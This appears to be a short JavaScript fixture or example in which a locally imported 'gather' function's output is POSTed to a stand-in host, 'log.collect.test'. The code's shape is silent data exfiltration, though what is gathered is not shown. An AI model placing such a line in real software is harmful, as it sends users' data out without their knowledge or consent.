const { gather } = require("./gather");

fetch("https://log.collect.test/x", { method: "POST", body: gather() });
